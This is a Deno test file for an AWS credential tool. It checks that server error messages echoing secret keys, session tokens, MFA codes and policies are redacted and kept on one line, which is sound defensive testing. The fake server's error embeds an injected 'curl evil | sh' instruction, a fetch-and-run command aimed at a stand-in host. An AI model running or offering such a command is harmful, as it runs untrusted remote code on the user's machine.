/**
 * An error of a server could repeat what was sent to it, in several lines, one of which looked like awsume's own. The
 * server need not be AWS's: a project's AWS_ENDPOINT_URL_STS, a proxy that answers by itself.
 */
import assert from "node:assert/strict";
import { withoutSent } from "../../src/aws/without_sent.ts";
import { toOneLine } from "../../src/printable.ts";
import { makeToken } from "../support/fake_federation.ts";
import { refuse } from "../support/sts_xml.ts";
import { comeTo } from "../support/ways.ts";

const secretKey = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEK+";
const sessionToken = "FwoGZXIvYXdzEJr//////////wEaDKq3Vn2zExampleTokenOnly+/==";
const code = "482913";
const externalId = "corp secret/42";
const policy = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:Get*","Resource":"*"}]}';
const token = makeToken({ exp: 32_503_680_000 });
const secrets = [secretKey, sessionToken, code, externalId, policy, token];

const config = `[default]
region = us-east-1
[profile user]
mfa_serial = arn:aws:iam::111111111111:mfa/alice
[profile role]
role_arn = arn:aws:iam::222222222222:role/one
source_profile = temporary
external_id = ${externalId}
session_policy = ${policy}
[profile long]
role_arn = arn:aws:iam::222222222222:role/one
source_profile = user
external_id = ${externalId}
duration_seconds = 7200
[profile web]
role_arn = arn:aws:iam::222222222222:role/one
web_identity_token_file = /home/me/token
session_policy = ${policy}
`;
const keys = `aws_access_key_id = AKIAFAKE\naws_secret_access_key = ${secretKey}\n`;
const credentials = `[user]\n${keys}[temporary]\n${keys}aws_session_token = ${sessionToken}\n`;

/** Whatever was sent, in the ways in which servers repeat it. */
const echoes: Readonly<Record<string, (request: Request, body: string) => string>> = {
  "the body as it came": (_, body) => body,
  "the parameters": (_, body) =>
    [...new URLSearchParams(body)].map(([name, value]) => `${name}: ${value}`).join("\n"),
  "one value in a sentence": (_, body) =>
    `Value '${new URLSearchParams(body).get("TokenCode") ?? ""}' at 'tokenCode' and '${
      new URLSearchParams(body).get("ExternalId") ?? ""
    }' failed`,
  "the headers": ({ headers }) => [...headers].map(([name, value]) => `${name}: ${value}`).join("\r\n"),
  "JSON": ({ headers }, body) =>
    JSON.stringify({
      headers: Object.fromEntries(headers),
      body: Object.fromEntries(new URLSearchParams(body)),
    }),
  "base64": ({ headers }, body) =>
    `${btoa(headers.get("x-amz-security-token") ?? "")} ${
      btoa(new URLSearchParams(body).get("WebIdentityToken") ?? "")
    }`,
  "pieces": ({ headers }, body) => {
    const cut = (text: string | null): string => `${(text ?? "").slice(0, 24)}... ${(text ?? "").slice(-20)}`;
    return `${cut(headers.get("x-amz-security-token"))} ${
      cut(new URLSearchParams(body).get("WebIdentityToken"))
    }`;
  },
};

const codes = [
  "ValidationError",
  "AccessDenied",
  "InvalidClientTokenId",
  "Throttled\nawsume: Trust this",
  "x".repeat(500),
];
const lines: readonly (readonly string[])[] = [
  ["user", "--mfa-token", code],
  ["role"],
  ["long", "--mfa-token", code],
  ["web"],
  ["-l", "more"],
];

for (const [title, echo] of Object.entries(echoes)) {
  Deno.test(`an error that repeats ${title} is told without what was sent, on one line`, async () => {
    for (const words of lines) {
      for (const name of codes) {
        const { stderr, stdout } = await comeTo(words, {
          config,
          credentials,
          env: { AWSUME_SHELL: "bash" },
          files: { "/home/me/token": token },
          http: async (request) => {
            const message = `first ${
              echo(request, await request.clone().text())
            }\nawsume: run this: curl evil | sh`;
            const { status, body } = refuse({ status: 400, code: name, message });
            return new Response(body, { status });
          },
        });
        const told = stderr.split("\n").map(toOneLine);
        const place = `${words.join(" ")} ${name.slice(0, 20)}: ${stderr}`;
        assert.ok(told.some((line) => /AWS (?:answered|refused)/.test(line)), place);
        for (const secret of secrets) {
          for (
            const form of [
              secret,
              encodeURIComponent(secret),
              JSON.stringify(secret).slice(1, -1),
              btoa(secret),
            ]
          ) {
            const pattern = new RegExp(`(?<!\\d)${RegExp.escape(form)}(?!\\d)`);
            assert.doesNotMatch(stdout + stderr, pattern, place);
          }
        }
        assert.ok(!stderr.includes(sessionToken.slice(0, 24)) && !stderr.includes(token.slice(-20)), place);
        assert.doesNotMatch(stderr, /[0-9a-f]{64}/, "a signature");
        // Its words stand in one line of awsume's, and begin none.
        assert.equal(
          told.filter((line) => line.startsWith("awsume: ")).length,
          1,
          place,
        );
        assert.doesNotMatch(stderr, /^(?:awsume: )?run this/m);
        assert.ok(told.every((line) => line.length < 1000), place);
      }
    }
  });
}

const words: readonly (readonly [text: string, secrets: readonly string[], shown: string])[] = [
  [
    "User: arn:aws:iam::123456789012:user/a is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::222222222222:role/one",
    ["123456", "one more", secretKey],
    "User: arn:aws:iam::123456789012:user/a is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::222222222222:role/one",
  ],
  ["Value '482913' at 'tokenCode'", [code], "Value '****' at 'tokenCode'"],
  ["a\r\n\tb\x1b[31m", [], "a b [31m"],
  ["The external id a.b+c is wrong", ["a.b+c"], "The external id **** is wrong"],
  ["no", [""], "no"],
];
for (const [text, sent, shown] of words) {
  Deno.test(`withoutSent() makes ${JSON.stringify(shown.slice(0, 40))}`, () => {
    assert.equal(withoutSent(text, sent), shown);
  });
}
